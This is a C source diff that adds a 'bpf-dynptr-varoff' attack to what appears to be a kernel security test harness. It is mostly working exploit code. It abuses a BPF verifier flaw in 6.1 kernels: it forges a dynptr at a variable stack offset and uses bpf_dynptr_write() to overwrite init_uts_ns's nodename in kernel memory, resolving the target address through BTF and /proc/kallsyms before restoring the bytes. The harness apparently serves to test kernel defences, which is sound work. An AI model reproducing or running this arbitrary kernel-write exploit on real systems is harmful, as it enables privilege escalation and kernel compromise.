@@ -979,6 +979,103 @@ out:
 	btf__free(btf);
 }
 
+/* 6.1's struct bpf_dynptr_kern: size in the low 28 bits, type above */
+#define DV_TYPE_LOCAL	(1ULL << 28)
+
+/* Run the socket filter @prog once: 0, or -1 with @o set. */
+static int socket_run(struct bpf_program *prog, struct aresult *o)
+{
+	unsigned char pkt[64] = { 0 };
+	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = pkt, .data_size_in = sizeof(pkt));
+	int err = bpf_prog_test_run_opts(bpf_program__fd(prog), &opts);
+
+	if (err) {
+		errno_outcome(o, -err, "BPF_PROG_TEST_RUN(socket)");
+		return -1;
+	}
+	return 0;
+}
+
+/*
+ * bpf-dynptr-varoff: a dynptr made at a stack offset whose variable part
+ * the verifier does not place (6.1): the slot it marks holds a dynptr of
+ * the program's own, over init_uts_ns's nodename, and bpf_dynptr_write()
+ * through it stores there (a red team's, on Debian 12's kernel with the
+ * BPF backend, under integrity and confidentiality). The bytes are put
+ * back.
+ */
+static void run_dynptr_varoff(struct aresult *o, int argc, char **argv)
+{
+	struct attack_btf *s = NULL;
+	struct bpf_program *p;
+	struct btf *btf;
+	struct utsname before, after;
+	uint64_t uts, orig, mark;
+	long name, node;
+	int err;
+
+	(void)argc;
+	(void)argv;
+	btf = btf__load_vmlinux_btf();
+	if (!btf) {
+		unavailable(o, "no kernel BTF (/sys/kernel/btf/vmlinux)");
+		return;
+	}
+	name = btf_member_offset(btf, "uts_namespace", "name");
+	node = btf_member_offset(btf, "new_utsname", "nodename");
+	if (name < 0 || node < 0 || ksym("init_uts_ns", &uts) || uname(&before)) {
+		failed(o, "init_uts_ns's nodename: not in the kernel's BTF or /proc/kallsyms");
+		goto out;
+	}
+	libbpf_log_start();
+	s = attack_btf__open();
+	if (!s) {
+		failed(o, "open the BPF object: %s", strerror(errno));
+		goto out;
+	}
+	bpf_object__for_each_program(p, s->obj)
+		bpf_program__set_autoload(p, p == s->progs.dynptr_varoff);
+	err = -attack_btf__load(s);
+	if (err) {
+		/* 6.2 on: "R4 cannot pass in dynptr at an offset=..." or the like */
+		const char *why = strstr(libbpf_log, "dynptr");
+
+		if (err == EPERM)
+			refused(o, "BPF_PROG_LOAD: EPERM");
+		else if (why)
+			refused(o, "the verifier: %.100s", why);
+		else
+			failed(o, "load: %s; %.300s", strerror(err),
+			       libbpf_log + (strlen(libbpf_log) > 300 ? strlen(libbpf_log) - 300 : 0));
+		goto out;
+	}
+	memcpy(&orig, before.nodename, sizeof(orig));
+	memcpy(&mark, "ldpdynvo", sizeof(mark));
+	s->bss->dv_var = 16;
+	s->bss->dv_word = sizeof(mark) | DV_TYPE_LOCAL;
+	s->bss->poke_addr = uts + name + node;
+	s->bss->poke_val = mark;
+	if (socket_run(s->progs.dynptr_varoff, o))
+		goto out;
+	if (uname(&after)) {
+		failed(o, "uname: %s", strerror(errno));
+		goto out;
+	}
+	s->bss->poke_val = orig;
+	if (socket_run(s->progs.dynptr_varoff, o))
+		goto out;
+	if (!strncmp(after.nodename, "ldpdynvo", 8))
+		shown(o, "bpf_dynptr_write() through the slot the verifier marked, a dynptr of "
+		      "the program's own: init_uts_ns's nodename was '%.8s' (put back)",
+		      after.nodename);
+	else
+		failed(o, "nodename '%.20s' after the store (bpf_dynptr_write(): %ld)",
+		       after.nodename, (long)s->bss->dv_ret);
+out:
+	attack_btf__destroy(s);
+	btf__free(btf);
+}
+
 const struct attack attacks_bpf[] = {
 	{ "bpf-read-kernel", "a syscall program's bpf_probe_read_kernel() of linux_banner",
 	  run_read_kernel },
@@ -1007,5 +1104,7 @@ const struct attack attacks_bpf[] = {
 	  run_fmod_ret },
 	{ "bpf-dynptr-slice", "a writable dynptr slice of a stack buffer rewriting a spilled "
 	  "pointer: a store to init_uts_ns", run_dynptr_slice },
+	{ "bpf-dynptr-varoff", "a dynptr at a stack offset the verifier places by its constant "
+	  "part: a store to init_uts_ns", run_dynptr_varoff },
 	{ 0 }
 };
